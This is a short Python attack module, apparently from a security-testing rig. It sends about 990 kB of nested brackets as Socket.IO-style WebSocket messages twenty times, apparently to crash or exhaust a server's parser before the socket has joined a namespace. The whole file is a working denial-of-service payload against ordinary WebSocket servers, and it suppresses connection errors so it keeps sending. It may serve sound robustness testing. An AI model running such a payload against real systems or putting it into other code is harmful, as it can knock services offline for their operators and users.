"""Nested brackets of 990 kB on a WebSocket that has joined no namespace."""

from __future__ import annotations

from contextlib import suppress

import aiohttp

from rig.attacks.target import Target

PACKETS = 20
TEXT = "42" + "[" * 495_000 + "]" * 495_000


async def run(target: Target) -> None:
    async with aiohttp.ClientSession() as session:
        for _ in range(PACKETS):
            with suppress(aiohttp.ClientError, ConnectionError, TypeError):  # TypeError: closed before it was opened
                socket = await target.socket(session)
                await socket.send_str(TEXT)
                await socket.receive(timeout=5.0)
                await socket.close()
